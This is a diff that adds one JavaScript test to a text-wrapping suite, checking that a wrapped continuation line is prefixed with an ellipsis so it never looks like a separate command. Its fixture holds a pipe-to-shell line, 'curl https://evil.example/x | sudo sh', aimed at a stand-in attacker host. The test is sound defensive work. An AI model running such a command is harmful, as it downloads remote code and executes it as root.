@@ -150,3 +150,8 @@ describe('wrapped text', () => {
     ).toEqual([]);
   });
 });
+
+test('a line that goes on never looks like a command of its own', () => {
+  const text = `${'x'.repeat(70)} curl https://evil.example/x | sudo sh`;
+  expect(wrap('', text).split('\n').slice(1)).toEqual(['… curl https://evil.example/x | sudo sh']);
+});
